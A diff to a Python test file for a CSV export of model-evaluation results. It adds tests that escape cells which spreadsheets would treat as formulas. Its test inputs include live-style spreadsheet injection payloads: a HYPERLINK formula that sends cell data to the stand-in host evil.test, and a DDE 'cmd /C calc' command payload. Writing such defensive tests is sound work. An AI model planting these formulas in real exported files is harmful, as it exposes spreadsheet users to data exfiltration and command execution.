@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import json
+from io import StringIO
 from pathlib import Path
 
 import pytest
@@ -90,10 +92,42 @@ def test_only_the_wrong_ones_are_shown_on_request() -> None:
 
 def test_samples_as_csv_have_a_column_for_each_score() -> None:
     assert results_csv(DOCUMENT, wrong=True).splitlines() == [
-        "task,index,asked,expected,answer,exact,rouge.a,rouge.b,calls,error",
-        'qa,1,Capital of Italy?,Rome,"Milan, ""I think""",0.0,0.5,,,',
-        'tools,0,"[{""role"": ""user""}]","[{""name"": ""f""}]",,,,,1.0,no conversation',
+        '"task","index","asked","expected","answer","exact","rouge.a","rouge.b","calls","error"',
+        '"qa","1","Capital of Italy?","Rome","Milan, ""I think""",0.0,0.5,"","",""',
+        '"tools","0","[{""role"": ""user""}]","[{""name"": ""f""}]","","","","",1.0,"no conversation"',
     ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil.test?"&A1)', '\'=HYPERLINK("http://evil.test?"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("a\r=1+1", "a\r=1+1"),
+        ("- a list", "'- a list"),
+        ("-1\n=1+1", "'-1\n=1+1"),
+        ("-5", "-5"),
+        ("+3.25", "+3.25"),
+        ("-.5", "-.5"),
+        ("-1.5e-07", "-1.5e-07"),
+        ("'quoted", "'quoted"),
+        ("1 = 1", "1 = 1"),
+        ("", ""),
+    ],
+)
+def test_no_cell_of_the_csv_is_a_formula_to_a_spreadsheet(text: str, cell: str) -> None:
+    """Rows and answers are written by models and by whoever made the dataset."""
+    sample = {"index": 0, "item": {"question": text, "answer": text}, "output_text": text, "error": text}
+    tasks = {text: {"data": {"samples": [{**sample, "scores": {text: {"a": -0.5}}}]}}}
+
+    heading, row = csv.reader(StringIO(results_csv(json.dumps({"tasks": tasks}), wrong=False), newline=""))
+
+    assert heading == ["task", "index", "asked", "expected", "answer", cell, "error"]
+    assert row == [cell, "0", cell, cell, cell, "-0.5", cell]
 
 
 @pytest.mark.parametrize(("context", "namespace"), [({"namespace": "team-a"}, "team-a"), ({}, "default")])
